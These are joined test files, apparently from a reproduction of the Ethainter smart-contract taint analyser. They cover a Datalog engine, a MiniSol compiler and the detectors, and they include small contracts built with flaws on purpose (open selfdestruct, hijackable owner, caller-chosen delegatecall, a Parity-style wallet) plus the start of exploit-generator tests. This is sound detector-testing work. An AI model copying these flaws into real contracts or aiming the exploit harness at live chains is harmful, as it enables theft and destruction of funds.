        assert flagged == output.labels | output.expected_fp_kinds

    def test_weights_cover_all_templates(self):
        assert set(DEFAULT_WEIGHTS) == set(TEMPLATES)


class TestGenerator:
    def test_deterministic_per_seed(self):
        first = generate_corpus(30, seed=99)
        second = generate_corpus(30, seed=99)
        assert [c.runtime for c in first] == [c.runtime for c in second]
        assert [c.template for c in first] == [c.template for c in second]

    def test_different_seeds_differ(self):
        first = generate_corpus(30, seed=1)
        second = generate_corpus(30, seed=2)
        assert [c.runtime for c in first] != [c.runtime for c in second]

    def test_requested_size(self):
        assert len(generate_corpus(17, seed=5)) == 17

    def test_unique_bytecodes(self):
        corpus = generate_corpus(60, seed=3)
        runtimes = [c.runtime for c in corpus]
        assert len(set(runtimes)) == len(runtimes)

    def test_majority_benign(self):
        corpus = generate_corpus(300, seed=2020)
        vulnerable = sum(1 for c in corpus if c.is_vulnerable)
        assert vulnerable < len(corpus) * 0.15

    def test_template_restriction(self):
        corpus = generate_corpus(10, seed=1, templates=["safe_token"])
        assert {c.template for c in corpus} == {"safe_token"}

    def test_eth_distribution_is_skewed(self):
        corpus = generate_corpus(300, seed=8)
        balances = sorted(c.eth_held for c in corpus)
        assert balances[0] == 0
        assert balances[-1] > 10**17

    def test_securify2_applicability_depends_on_version(self):
        corpus = generate_corpus(200, seed=4)
        applicable = [c for c in corpus if c.securify2_applicable]
        assert 0 < len(applicable) < len(corpus)

    def test_labels_only_on_vulnerable_templates(self):
        corpus = generate_corpus(100, seed=6)
        for contract in corpus:
            if contract.template.startswith("safe_"):
                assert not contract.labels

    def test_exploitable_implies_selfdestruct_label(self):
        from repro.core.vulnerabilities import (
            ACCESSIBLE_SELFDESTRUCT,
            TAINTED_SELFDESTRUCT,
        )

        corpus = generate_corpus(200, seed=12)
        for contract in corpus:
            if contract.exploitable_selfdestruct:
                assert contract.labels & {ACCESSIBLE_SELFDESTRUCT, TAINTED_SELFDESTRUCT}
