"""ABI encoding helpers."""

from hypothesis import given, strategies as st

from repro.evm.hashing import UINT_MAX, function_selector, keccak, mapping_slot
from repro.minisol.abi import decode_word, encode_args, encode_call, encode_word


class TestEncoding:
    def test_encode_word_width(self):
        assert len(encode_word(1)) == 32
        assert encode_word(0x1234)[-2:] == b"\x12\x34"

    def test_encode_word_wraps(self):
        assert encode_word(UINT_MAX + 2) == encode_word(1)

    def test_encode_args_concatenates(self):
        assert encode_args([1, 2]) == encode_word(1) + encode_word(2)

    def test_encode_call_layout(self):
        data = encode_call("transfer(address,uint256)", 0xAB, 5)
        assert len(data) == 4 + 64
        assert data[:4] == keccak(b"transfer(address,uint256)")[:4]

    @given(st.integers(0, UINT_MAX), st.integers(0, 3))
    def test_decode_roundtrip(self, value, index):
        data = encode_args([0, 0, 0, 0])
        data = data[: index * 32] + encode_word(value) + data[(index + 1) * 32 :]
        assert decode_word(data, index) == value

    def test_decode_missing_word_is_zero(self):
        assert decode_word(b"", 0) == 0
        assert decode_word(encode_word(5), 3) == 0

    def test_decode_short_data_padded(self):
        assert decode_word(b"\x01", 0) == 1 << 248


class TestHashing:
    def test_selector_width(self):
        assert 0 <= function_selector("f()") < (1 << 32)

    def test_selector_distinct(self):
        assert function_selector("kill()") != function_selector("kill(address)")

    @given(st.integers(0, UINT_MAX), st.integers(0, 100))
    def test_mapping_slot_deterministic(self, key, base):
        assert mapping_slot(key, base) == mapping_slot(key, base)

    def test_mapping_slot_depends_on_both_inputs(self):
        assert mapping_slot(1, 0) != mapping_slot(2, 0)
        assert mapping_slot(1, 0) != mapping_slot(1, 1)
