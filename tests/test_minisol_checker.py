"""MiniSol semantic checker: slot assignment and rejection rules."""

import pytest

from repro.minisol.checker import CheckError, check
from repro.minisol.compiler import compile_source
from repro.minisol.parser import parse


def check_contract(body):
    return check(parse("contract C { %s }" % body)).contract("C")


class TestSlotAssignment:
    def test_sequential_slots(self):
        contract = check_contract("uint256 a; mapping(address => bool) m; address b;")
        assert [v.slot for v in contract.state_vars] == [0, 1, 2]

    def test_duplicate_state_var(self):
        with pytest.raises(CheckError):
            check_contract("uint256 a; uint256 a;")

    def test_mapping_initializer_rejected(self):
        with pytest.raises(CheckError):
            check_contract("mapping(address => bool) m = 1;")


class TestFunctionRules:
    def test_duplicate_function(self):
        with pytest.raises(CheckError):
            check_contract("function f() public {} function f() public {}")

    def test_unknown_modifier(self):
        with pytest.raises(CheckError):
            check_contract("function f() public missing { }")

    def test_modifier_arity(self):
        with pytest.raises(CheckError):
            check_contract("modifier m(uint256 a) { _; } function f() public m { }")

    def test_modifier_needs_exactly_one_placeholder(self):
        with pytest.raises(CheckError):
            check_contract("modifier m() { require(true); }")
        with pytest.raises(CheckError):
            check_contract("modifier m() { _; _; }")

    def test_placeholder_outside_modifier(self):
        with pytest.raises(CheckError):
            check_contract("function f() public { _; }")

    def test_return_without_declared_type(self):
        with pytest.raises(CheckError):
            check_contract("function f() public { return 1; }")

    def test_user_function_shadows_builtin(self):
        contract = check_contract(
            "mapping(address => uint256) b;"
            "function transfer(address to, uint256 v) public { b[to] = v; }"
        )
        assert contract.function("transfer").params[0].name == "to"


class TestScoping:
    def test_unknown_identifier(self):
        with pytest.raises(CheckError):
            check_contract("function f() public { x = 1; }")

    def test_param_visible(self):
        check_contract("function f(uint256 x) public { x = 2; }")

    def test_local_redeclaration(self):
        with pytest.raises(CheckError):
            check_contract("function f() public { uint256 x = 1; uint256 x = 2; }")

    def test_block_scoping_allows_shadow_in_sibling(self):
        check_contract(
            "function f(bool c) public {"
            " if (c) { uint256 x = 1; x = x; } else { uint256 x = 2; x = x; } }"
        )


class TestMappingAccess:
    BODY = "mapping(address => mapping(address => uint256)) m; uint256 s;"

    def test_full_depth_ok(self):
        check_contract(self.BODY + " function f(address a) public { m[a][a] = 1; }")

    def test_partial_index_write_rejected(self):
        with pytest.raises(CheckError):
            check_contract(self.BODY + " function f(address a) public { m[a] = 1; }")

    def test_over_indexing_rejected(self):
        with pytest.raises(CheckError):
            check_contract(self.BODY + " function f(address a) public { m[a][a][a] = 1; }")

    def test_bare_mapping_read_rejected(self):
        with pytest.raises(CheckError):
            check_contract(
                self.BODY + " function f() public returns (uint256) { return s + m; }"
            )

    def test_scalar_not_indexable(self):
        with pytest.raises(CheckError):
            check_contract(self.BODY + " function f(address a) public { s[a] = 1; }")

    def test_mapping_assignment_without_index_rejected(self):
        with pytest.raises(CheckError):
            check_contract(
                "mapping(address => bool) m; function f() public { m = true; }"
            )


class TestCalls:
    def test_builtin_arity(self):
        with pytest.raises(CheckError):
            check_contract("function f() public { selfdestruct(); }")

    def test_unknown_function(self):
        with pytest.raises(CheckError):
            check_contract("function f() public { nothere(1); }")

    def test_internal_call_arity(self):
        with pytest.raises(CheckError):
            check_contract(
                "function g(uint256 a) internal {} function f() public { g(); }"
            )

    def test_malformed_signature(self):
        with pytest.raises(CheckError):
            check_contract('function f(address a) public { call(a, "nosig"); }')


class TestRecursionRejection:
    def test_direct_recursion(self):
        with pytest.raises(CheckError, match="recursion"):
            compile_source("contract C { function f() public { f(); } }")

    def test_mutual_recursion(self):
        with pytest.raises(CheckError, match="recursion"):
            compile_source(
                "contract C {"
                " function f() internal { g(); }"
                " function g() internal { f(); }"
                " function go() public { f(); } }"
            )

    def test_non_recursive_chain_accepted(self):
        compile_source(
            "contract C {"
            " function a() internal returns (uint256) { return 1; }"
            " function b() internal returns (uint256) { return a() + a(); }"
            " function go() public returns (uint256) { return b(); } }"
        )


class TestProgramLevel:
    def test_duplicate_contract_names(self):
        with pytest.raises(CheckError):
            check(parse("contract A {} contract A {}"))
