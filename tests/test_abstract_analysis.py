"""The §4 formal model: every Figure 3/4 rule exercised individually."""

import pytest

from repro.core.abstract_analysis import analyze_abstract
from repro.core.lang import (
    AbstractParseError,
    AbstractProgram,
    Const,
    Guard,
    Hash,
    Input,
    Op,
    SENDER,
    SLoad,
    SStore,
    Sink,
    parse_abstract,
)


def analyze(text):
    return analyze_abstract(parse_abstract(text))


class TestParsing:
    def test_roundtrip_kinds(self):
        program = parse_abstract(
            """
v = CONST 0x10
x = INPUT
h = HASH x
p = EQ sender z
g = GUARD p x
o = OP x h
SSTORE x v
SLOAD v y
SINK y
"""
        )
        kinds = [type(ins).__name__ for ins in program.instructions]
        assert kinds == [
            "Const", "Input", "Hash", "Op", "Guard", "Op", "SStore", "SLoad", "Sink",
        ]

    def test_comments_and_blanks(self):
        program = parse_abstract("# comment\n\nx = INPUT\n")
        assert len(program.instructions) == 1

    def test_unknown_instruction(self):
        with pytest.raises(AbstractParseError):
            parse_abstract("x = FROB y")

    def test_malformed_line(self):
        with pytest.raises(AbstractParseError):
            parse_abstract("SSTORE")

    def test_variables_listing(self):
        program = parse_abstract("x = INPUT\ny = OP x")
        assert set(program.variables()) == {"x", "y"}


class TestTaintRules:
    def test_load_input(self):
        result = analyze("x = INPUT")
        assert "x" in result.input_tainted

    def test_operation_propagates_input_taint(self):
        result = analyze("x = INPUT\ny = OP x z")
        assert "y" in result.input_tainted

    def test_operation_propagates_from_either_operand(self):
        result = analyze("x = INPUT\ny = OP z x")
        assert "y" in result.input_tainted

    def test_hash_extension_propagates(self):
        result = analyze("x = INPUT\nh = HASH x")
        assert "h" in result.input_tainted

    def test_untainted_stays_clean(self):
        result = analyze("v = CONST 1\ny = OP v v")
        assert not result.input_tainted and not result.storage_tainted


class TestGuardRules:
    def test_guard2_blocks_sanitized_input(self):
        # Effective guard: compares sender with a clean storage value.
        result = analyze(
            """
f0 = CONST 0
SLOAD f0 z
p = EQ sender z
x = INPUT
g = GUARD p x
SINK g
"""
        )
        assert "g" not in result.input_tainted
        assert result.violations == set()

    def test_guard2_passes_with_non_sanitizing_predicate(self):
        # Uguard-NDS: equality not involving sender.
        result = analyze(
            """
a = CONST 1
b = CONST 2
p = EQ a b
x = INPUT
g = GUARD p x
SINK g
"""
        )
        assert "p" in result.non_sanitizing
        assert "g" in result.input_tainted
        assert "g" in result.violations

    def test_guard1_storage_taint_passes_any_guard(self):
        result = analyze(
            """
x = INPUT
t0 = CONST 0
SSTORE x t0
f0 = CONST 0
SLOAD f0 s
fz = CONST 1
SLOAD fz z
p = EQ sender z
g = GUARD p s
SINK g
"""
        )
        assert "s" in result.storage_tainted
        assert "g" in result.storage_tainted
        assert "g" in result.violations

    def test_uguard_t_tainted_comparison_slot(self):
        result = analyze(
            """
o = INPUT
t0 = CONST 0
SSTORE o t0
f0 = CONST 0
SLOAD f0 z
p = EQ sender z
x = INPUT
g = GUARD p x
SINK g
"""
        )
        assert "p" in result.non_sanitizing  # Uguard-T
        assert "g" in result.violations

    def test_sender_comparison_is_not_nds(self):
        result = analyze(
            """
f0 = CONST 0
SLOAD f0 z
p = EQ sender z
"""
        )
        assert "p" not in result.non_sanitizing


class TestStorageRules:
    def test_storage_write1_const_address(self):
        result = analyze("x = INPUT\nt = CONST 5\nSSTORE x t")
        assert 5 in result.tainted_storage

    def test_storage_load_from_tainted_slot(self):
        result = analyze(
            "x = INPUT\nt = CONST 5\nSSTORE x t\nf = CONST 5\nSLOAD f y\nSINK y"
        )
        assert "y" in result.storage_tainted
        assert "y" in result.violations

    def test_storage_write2_taints_all_known_slots(self):
        result = analyze(
            """
x = INPUT
a = INPUT
SSTORE x a
s1 = CONST 1
SSTORE q s1
s2 = CONST 2
SLOAD s2 w
"""
        )
        assert result.tainted_storage == {1, 2}

    def test_storage_write2_requires_both_tainted(self):
        result = analyze(
            """
x = INPUT
a = CONST 9
SSTORE x a
s1 = CONST 1
SLOAD s1 w
"""
        )
        # Address is the constant 9... wait: SSTORE x a stores value x at
        # address a, and a IS constant -> StorageWrite-1 applies to slot 9.
        assert result.tainted_storage == {9}

    def test_untainted_store_does_nothing(self):
        result = analyze("v = CONST 3\nt = CONST 0\nSSTORE v t")
        assert result.tainted_storage == set()


class TestDsRules:
    def test_sender_is_ds(self):
        result = analyze("x = INPUT")
        assert SENDER in result.ds

    def test_ds_lookup(self):
        result = analyze("h = HASH sender")
        assert "h" in result.dsa

    def test_dsa_lookup_nested(self):
        result = analyze("h = HASH sender\nh2 = HASH h")
        assert "h2" in result.dsa

    def test_ds_addr_op(self):
        result = analyze("h = HASH sender\nk = OP h one")
        assert "k" in result.dsa

    def test_dsa_load_gives_ds(self):
        result = analyze("h = HASH sender\nSLOAD h v")
        assert "v" in result.ds

    def test_ds_guard_is_sanitizing(self):
        # require(allowed[msg.sender]) modeled abstractly: guard predicate is
        # a DS value compared with nothing -> neither Uguard rule fires.
        result = analyze(
            """
h = HASH sender
SLOAD h p
x = INPUT
g = GUARD p x
SINK g
"""
        )
        assert "p" not in result.non_sanitizing
        assert result.violations == set()


class TestComputedSinks:
    def test_tainted_owner_slot_becomes_sink(self):
        result = analyze(
            """
o = INPUT
t0 = CONST 0
SSTORE o t0
f0 = CONST 0
SLOAD f0 z
p = EQ sender z
x = INPUT
g = GUARD p x
"""
        )
        assert result.computed_sinks == {0}

    def test_untainted_guarded_value_no_sink(self):
        result = analyze(
            """
f0 = CONST 0
SLOAD f0 z
p = EQ sender z
c = CONST 1
g = GUARD p c
"""
        )
        assert result.computed_sinks == set()


class TestAuxiliaryRelations:
    def test_const_value(self):
        result = analyze("v = CONST 42")
        assert result.const_value["v"] == 42

    def test_const_through_unary_copy(self):
        result = analyze("v = CONST 42\nw = OP v")
        assert result.const_value["w"] == 42

    def test_storage_alias(self):
        result = analyze("f = CONST 3\nSLOAD f z")
        assert result.storage_alias["z"] == {3}

    def test_alias_through_copy(self):
        result = analyze("f = CONST 3\nSLOAD f z\nw = OP z")
        assert 3 in result.storage_alias["w"]


class TestPaperExamples:
    def test_section_31_tainted_owner(self):
        """§3.1: initOwner lets anyone replace the owner; kill is guarded by
        a comparison against the now-tainted slot."""
        result = analyze(
            """
o = INPUT
t0 = CONST 0
SSTORE o t0
f0 = CONST 0
SLOAD f0 owner
p = EQ sender owner
x = INPUT
g = GUARD p x
SINK g
"""
        )
        assert 0 in result.tainted_storage
        assert "p" in result.non_sanitizing
        assert "g" in result.violations
        assert 0 in result.computed_sinks

    def test_section_34_tainted_selfdestruct(self):
        """§3.4: beneficiary slot freely writable, selfdestruct guarded by a
        clean owner: the sink fires via storage taint despite the guard."""
        result = analyze(
            """
a = INPUT
t1 = CONST 1
SSTORE a t1
f0 = CONST 0
SLOAD f0 ow
p = EQ sender ow
f1 = CONST 1
SLOAD f1 admin
g = GUARD p admin
SINK g
"""
        )
        assert "g" in result.violations  # storage taint passed the guard
