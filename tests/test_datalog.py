"""Datalog engine: terms, safety, evaluation, stratification, parser."""

import pytest
from hypothesis import given, settings, strategies as st

from repro.datalog import (
    Atom,
    Database,
    Engine,
    Literal,
    Rule,
    StratificationError,
    Variable,
    parse_program,
    parse_rule,
    var,
)
from repro.datalog.parser import DatalogSyntaxError
from repro.datalog.terms import Filter, match, substitute


class TestTerms:
    def test_var_helper(self):
        x, y = var("x y")
        assert x == Variable("x") and y == Variable("y")

    def test_wildcard(self):
        assert Variable("_").is_wildcard

    def test_atom_repr_and_arity(self):
        atom = Atom("Edge", Variable("x"), "a")
        assert atom.arity == 2
        assert "Edge" in repr(atom)

    def test_match_binds_variables(self):
        x = Variable("x")
        binding = match((x, "a"), ("n1", "a"), {})
        assert binding == {x: "n1"}

    def test_match_conflict_fails(self):
        x = Variable("x")
        assert match((x, x), ("a", "b"), {}) is None

    def test_match_wildcard_binds_nothing(self):
        binding = match((Variable("_"),), ("a",), {})
        assert binding == {}

    def test_match_constant_mismatch(self):
        assert match(("a",), ("b",), {}) is None

    def test_substitute(self):
        x = Variable("x")
        assert substitute(Atom("R", x, 1), {x: "v"}) == ("v", 1)

    def test_substitute_wildcard_in_head_rejected(self):
        with pytest.raises(ValueError):
            substitute(Atom("R", Variable("_")), {})


class TestRuleSafety:
    def test_unbound_head_variable_rejected(self):
        x, y = var("x y")
        with pytest.raises(ValueError):
            Rule(Atom("Out", x, y), [Literal(Atom("In", x))])

    def test_unbound_negated_variable_rejected(self):
        x, y = var("x y")
        with pytest.raises(ValueError):
            Rule(Atom("Out", x), [Literal(Atom("In", x)), Literal(Atom("Not", y), negated=True)])

    def test_fact_rule_allowed(self):
        Rule(Atom("F", "a", 1), [])


class TestDatabase:
    def test_add_dedupes(self):
        db = Database()
        assert db.add("R", ("a",))
        assert not db.add("R", ("a",))
        assert db.count("R") == 1

    def test_lookup_indexed(self):
        db = Database()
        db.add_all("E", [("a", "b"), ("a", "c"), ("x", "y")])
        assert sorted(db.lookup("E", (0,), ("a",))) == [("a", "b"), ("a", "c")]

    def test_index_updated_incrementally(self):
        db = Database()
        db.add("E", ("a", "b"))
        db.lookup("E", (0,), ("a",))  # build the index
        db.add("E", ("a", "z"))
        assert ("a", "z") in db.lookup("E", (0,), ("a",))

    def test_contains(self):
        db = Database()
        db.add("R", ("a", 1))
        assert db.contains("R", ("a", 1))
        assert not db.contains("R", ("a", 2))

    def test_indexes_stored_per_relation(self):
        """add() must only maintain the inserted relation's indexes — the
        flat index map used to make every insert scan every index."""
        db = Database()
        db.add_all("E", [("a", "b")])
        db.add_all("F", [("p", "q")])
        db.lookup("E", (0,), ("a",))  # build an index on E only
        db.lookup("F", (1,), ("q",))  # ... and a differently-shaped one on F
        assert set(db._indexes) == {"E", "F"}
        assert set(db._indexes["E"]) == {(0,)}
        assert set(db._indexes["F"]) == {(1,)}
        # Inserts keep each relation's own indexes fresh and do not create
        # entries under other relations.
        db.add("E", ("a", "z"))
        db.add("F", ("x", "q"))
        assert ("a", "z") in db.lookup("E", (0,), ("a",))
        assert ("x", "q") in db.lookup("F", (1,), ("q",))
        assert set(db._indexes["E"]) == {(0,)}

    def test_multi_position_indexes_coexist(self):
        db = Database()
        db.add_all("E", [("a", "b"), ("a", "c")])
        assert db.lookup("E", (0, 1), ("a", "b")) == [("a", "b")]
        assert sorted(db.lookup("E", (0,), ("a",))) == [("a", "b"), ("a", "c")]
        db.add("E", ("a", "d"))
        assert db.lookup("E", (0, 1), ("a", "d")) == [("a", "d")]


class TestEvaluation:
    def test_transitive_closure(self):
        rules = [
            parse_rule("Path(x, y) :- Edge(x, y)."),
            parse_rule("Path(x, z) :- Path(x, y), Edge(y, z)."),
        ]
        db = Database()
        db.add_all("Edge", [("a", "b"), ("b", "c"), ("c", "d")])
        Engine(rules).evaluate(db)
        assert ("a", "d") in db.facts("Path")
        assert db.count("Path") == 6

    def test_mutual_recursion(self):
        rules = [
            parse_rule("Even(x) :- Zero(x)."),
            parse_rule("Even(y) :- Odd(x), Succ(x, y)."),
            parse_rule("Odd(y) :- Even(x), Succ(x, y)."),
        ]
        db = Database()
        db.add("Zero", (0,))
        db.add_all("Succ", [(i, i + 1) for i in range(10)])
        Engine(rules).evaluate(db)
        assert (4,) in db.facts("Even")
        assert (5,) in db.facts("Odd")
        assert (5,) not in db.facts("Even")

    def test_negation_in_lower_stratum(self):
        rules = [
            parse_rule("Reach(x) :- Start(x)."),
            parse_rule("Reach(y) :- Reach(x), Edge(x, y)."),
            parse_rule("Unreached(x) :- Node(x), !Reach(x)."),
        ]
        db = Database()
        db.add("Start", ("a",))
        db.add_all("Edge", [("a", "b")])
        db.add_all("Node", [("a",), ("b",), ("c",)])
        Engine(rules).evaluate(db)
        assert db.facts("Unreached") == {("c",)}

    def test_recursive_negation_rejected(self):
        with pytest.raises(StratificationError):
            Engine([parse_rule("P(x) :- N(x), !P(x).")])

    def test_indirect_recursive_negation_rejected(self):
        rules = [
            parse_rule("A(x) :- N(x), !B(x)."),
            parse_rule("B(x) :- A(x)."),
        ]
        with pytest.raises(StratificationError):
            Engine(rules)

    def test_ground_facts_as_rules(self):
        rules = [parse_rule('Color("red").'), parse_rule("Has(x) :- Color(x).")]
        db = Database()
        Engine(rules).evaluate(db)
        assert db.facts("Has") == {("red",)}

    def test_constants_in_body(self):
        rules = [parse_rule('Special(y) :- Edge("hub", y).')]
        db = Database()
        db.add_all("Edge", [("hub", "a"), ("other", "b")])
        Engine(rules).evaluate(db)
        assert db.facts("Special") == {("a",)}

    def test_wildcard_in_body(self):
        rules = [parse_rule("HasEdge(x) :- Edge(x, _).")]
        db = Database()
        db.add_all("Edge", [("a", "b"), ("a", "c")])
        Engine(rules).evaluate(db)
        assert db.facts("HasEdge") == {("a",)}

    def test_filter_predicate(self):
        x, y = var("x y")
        rule = Rule(
            Atom("Big", x),
            [Literal(Atom("Val", x, y)), Filter(lambda v: v > 10, y, name="gt10")],
        )
        db = Database()
        db.add_all("Val", [("a", 5), ("b", 50)])
        Engine([rule]).evaluate(db)
        assert db.facts("Big") == {("b",)}

    def test_zero_arity_relations(self):
        rules = [
            parse_rule("Flag() :- Trigger(x)."),
            parse_rule("All(y) :- Flag(), Item(y)."),
        ]
        db = Database()
        db.add("Trigger", ("t",))
        db.add_all("Item", [(1,), (2,)])
        Engine(rules).evaluate(db)
        assert db.facts("All") == {(1,), (2,)}

    def test_same_generation(self):
        rules = [
            parse_rule("SG(x, x) :- Node(x)."),
            parse_rule("SG(x, y) :- Parent(x, px), SG(px, py), Parent(y, py)."),
        ]
        db = Database()
        db.add_all("Node", [(n,) for n in "abcde"])
        db.add_all("Parent", [("b", "a"), ("c", "a"), ("d", "b"), ("e", "c")])
        Engine(rules).evaluate(db)
        assert ("b", "c") in db.facts("SG")
        assert ("d", "e") in db.facts("SG")
        assert ("b", "d") not in db.facts("SG")


def _naive_evaluate(rules, db):
    """Reference: naive bottom-up iteration (no deltas), same strata."""
    engine = Engine(rules)
    for stratum in engine.strata:
        changed = True
        while changed:
            changed = False
            for rule in stratum:
                for fact, _support in engine._derive(db, rule, None, {}):
                    if db.add(rule.head.relation, fact):
                        changed = True
    return db


@st.composite
def random_edges(draw):
    nodes = list("abcdef")
    count = draw(st.integers(0, 12))
    return [
        (draw(st.sampled_from(nodes)), draw(st.sampled_from(nodes)))
        for _ in range(count)
    ]


class TestSemiNaiveEquivalence:
    @given(random_edges())
    @settings(max_examples=50, deadline=None)
    def test_matches_naive_on_closure_with_negation(self, edges):
        rules = [
            parse_rule("Path(x, y) :- Edge(x, y)."),
            parse_rule("Path(x, z) :- Path(x, y), Edge(y, z)."),
            parse_rule("Isolated(x) :- Vertex(x), !Path(x, x)."),
        ]
        vertices = sorted({n for e in edges for n in e} | {"a"})
        db_semi, db_naive = Database(), Database()
        for db in (db_semi, db_naive):
            db.add_all("Edge", edges)
            db.add_all("Vertex", [(v,) for v in vertices])
        Engine(rules).evaluate(db_semi)
        _naive_evaluate(rules, db_naive)
        assert db_semi.facts("Path") == db_naive.facts("Path")
        assert db_semi.facts("Isolated") == db_naive.facts("Isolated")


class TestParser:
    def test_program_with_decl(self):
        program = parse_program(".decl Edge(x, y)\nPath(x, y) :- Edge(x, y).")
        assert program.declarations == {"Edge": 2}
        assert len(program.rules) == 1

    def test_comments_ignored(self):
        program = parse_program("// nothing\nF(1).")
        assert len(program.rules) == 1

    def test_string_and_number_terms(self):
        rule = parse_rule('R("hello", 42, x) :- S(x).')
        assert rule.head.args[0] == "hello"
        assert rule.head.args[1] == 42

    def test_negative_number(self):
        rule = parse_rule("R(-1).")
        assert rule.head.args[0] == -1

    def test_syntax_error(self):
        with pytest.raises(DatalogSyntaxError):
            parse_rule("R(x :- S(x).")

    def test_trailing_garbage(self):
        with pytest.raises(DatalogSyntaxError):
            parse_rule("R(1). extra")
