"""The five detectors end-to-end (compile -> analyze -> warnings)."""

import pytest

from repro.core import AnalysisConfig, analyze_bytecode
from repro.core.vulnerabilities import (
    ACCESSIBLE_SELFDESTRUCT,
    TAINTED_DELEGATECALL,
    TAINTED_OWNER,
    TAINTED_SELFDESTRUCT,
    UNCHECKED_STATICCALL,
    VULNERABILITY_KINDS,
    findings_by_kind,
)
from repro.minisol import compile_source


def kinds_of(source, name=None, config=None):
    result = analyze_bytecode(compile_source(source, name).runtime, config)
    assert result.error is None
    return {w.kind for w in result.warnings}


class TestAccessibleSelfdestruct:
    def test_unguarded_flagged(self, open_kill_contract):
        result = analyze_bytecode(open_kill_contract.runtime)
        assert result.has(ACCESSIBLE_SELFDESTRUCT)

    def test_owner_guarded_clean(self, safe_contract):
        result = analyze_bytecode(safe_contract.runtime)
        assert not result.warnings

    def test_composite_escalation_flagged(self, victim_contract):
        result = analyze_bytecode(victim_contract.runtime)
        assert result.has(ACCESSIBLE_SELFDESTRUCT)

    def test_flag_guard_does_not_protect(self):
        kinds = kinds_of(
            """
contract C {
    address t;
    uint256 stage;
    constructor() { t = msg.sender; }
    function go() public { require(stage == 2); selfdestruct(t); }
}
"""
        )
        assert ACCESSIBLE_SELFDESTRUCT in kinds

    def test_no_selfdestruct_no_flag(self, token_contract):
        result = analyze_bytecode(token_contract.runtime)
        assert not result.has(ACCESSIBLE_SELFDESTRUCT)


class TestTaintedSelfdestruct:
    def test_direct_parameter_beneficiary(self):
        kinds = kinds_of(
            "contract C { function die(address to) public { selfdestruct(to); } }"
        )
        assert TAINTED_SELFDESTRUCT in kinds

    def test_storage_mediated_beneficiary(self, tainted_sd_storage_contract):
        result = analyze_bytecode(tainted_sd_storage_contract.runtime)
        assert result.has(TAINTED_SELFDESTRUCT)
        # The instruction itself is properly guarded.
        assert not result.has(ACCESSIBLE_SELFDESTRUCT)

    def test_clean_beneficiary_not_tainted(self, open_kill_contract):
        result = analyze_bytecode(open_kill_contract.runtime)
        assert not result.has(TAINTED_SELFDESTRUCT)


class TestTaintedOwner:
    def test_public_initializer(self, tainted_owner_contract):
        result = analyze_bytecode(tainted_owner_contract.runtime)
        assert result.has(TAINTED_OWNER)
        slots = {w.slot for w in result.warnings if w.kind == TAINTED_OWNER}
        assert slots == {0}

    def test_guarded_setter_clean(self, safe_contract):
        result = analyze_bytecode(safe_contract.runtime)
        assert not result.has(TAINTED_OWNER)

    def test_tainted_slot_without_guard_use_not_reported(self):
        # A freely-writable slot never compared against msg.sender is not an
        # "owner variable" (§4.5: unlocked door to an empty room).
        kinds = kinds_of(
            "contract C { uint256 x; function f(uint256 v) public { x = v; } }"
        )
        assert TAINTED_OWNER not in kinds

    def test_game_winner_pattern_is_reported(self):
        # ... but a sender-compared writable slot IS (the Fig. 6 FP class).
        kinds = kinds_of(
            """
contract C {
    address lastWinner;
    uint256 round;
    function play(address b) public { lastWinner = b; }
    function claim() public returns (uint256) {
        require(msg.sender == lastWinner);
        return round;
    }
}
"""
        )
        assert TAINTED_OWNER in kinds


class TestTaintedDelegatecall:
    def test_parameter_target(self, delegate_contract):
        result = analyze_bytecode(delegate_contract.runtime)
        assert result.has(TAINTED_DELEGATECALL)

    def test_storage_mediated_target(self):
        kinds = kinds_of(
            """
contract C {
    address handler;
    function set(address h) public { handler = h; }
    function run() public { delegatecall(handler); }
}
"""
        )
        assert TAINTED_DELEGATECALL in kinds

    def test_constructor_fixed_target_clean(self):
        kinds = kinds_of(
            """
contract C {
    address handler;
    constructor(address h) { handler = h; }
    function run() public { delegatecall(handler); }
}
"""
        )
        assert TAINTED_DELEGATECALL not in kinds

    def test_owner_guarded_setter_clean(self):
        kinds = kinds_of(
            """
contract C {
    address owner;
    address handler;
    constructor() { owner = msg.sender; }
    function set(address h) public { require(msg.sender == owner); handler = h; }
    function run() public { delegatecall(handler); }
}
"""
        )
        assert TAINTED_DELEGATECALL not in kinds


class TestUncheckedStaticcall:
    def test_unchecked_flagged(self):
        kinds = kinds_of(
            """
contract C {
    function f(address w) public returns (uint256) {
        return staticcall_unchecked(w);
    }
}
"""
        )
        assert UNCHECKED_STATICCALL in kinds

    def test_checked_clean(self):
        kinds = kinds_of(
            """
contract C {
    function f(address w) public returns (uint256) {
        return staticcall_checked(w);
    }
}
"""
        )
        assert UNCHECKED_STATICCALL not in kinds

    def test_untainted_target_clean(self):
        kinds = kinds_of(
            """
contract C {
    address fixedWallet;
    constructor(address w) { fixedWallet = w; }
    function f() public returns (uint256) {
        return staticcall_unchecked(fixedWallet);
    }
}
"""
        )
        assert UNCHECKED_STATICCALL not in kinds


class TestReporting:
    def test_findings_by_kind_groups(self, tainted_owner_contract):
        result = analyze_bytecode(tainted_owner_contract.runtime)
        grouped = findings_by_kind(
            [w for w in []]  # grouping works on Finding objects; use kinds()
        )
        assert set(grouped) == set(VULNERABILITY_KINDS)
        counts = result.kinds()
        assert counts[TAINTED_OWNER] == 1
        assert counts[ACCESSIBLE_SELFDESTRUCT] == 1

    def test_warning_carries_pc(self, open_kill_contract):
        result = analyze_bytecode(open_kill_contract.runtime)
        warning = next(w for w in result.warnings if w.kind == ACCESSIBLE_SELFDESTRUCT)
        assert warning.pc >= 0

    def test_parity_style_library_hack(self):
        """The Parity-wallet shape: an unprotected init function re-assigns
        the owners; the kill path is guarded by those owners (§1, §6.2)."""
        kinds = kinds_of(
            """
contract WalletLibrary {
    address walletOwner;
    uint256 dailyLimit;
    function initWallet(address newOwner, uint256 limit) public {
        walletOwner = newOwner;
        dailyLimit = limit;
    }
    function kill(address to) public {
        require(msg.sender == walletOwner);
        selfdestruct(to);
    }
}
"""
        )
        assert TAINTED_OWNER in kinds
        assert ACCESSIBLE_SELFDESTRUCT in kinds
        assert TAINTED_SELFDESTRUCT in kinds
