"""Solver-assisted Ethainter-Kill (hybrid static + symbolic exploitation)."""

import pytest

from repro.chain import Blockchain
from repro.core import analyze_bytecode
from repro.kill import EthainterKill
from repro.minisol import compile_source

MAGIC_SOURCE = """
contract C {
    address payout;
    constructor() { payout = msg.sender; }
    function emergency(uint256 code) public {
        require(code == 555444333222);
        selfdestruct(payout);
    }
}
"""

DEAD_STATE_SOURCE = """
contract C {
    address sink;
    uint256 active;
    constructor() { sink = msg.sender; active = 1; }
    function go() public { require(active == 2); selfdestruct(sink); }
}
"""


def attack(source, assisted, value=100):
    contract = compile_source(source)
    chain = Blockchain()
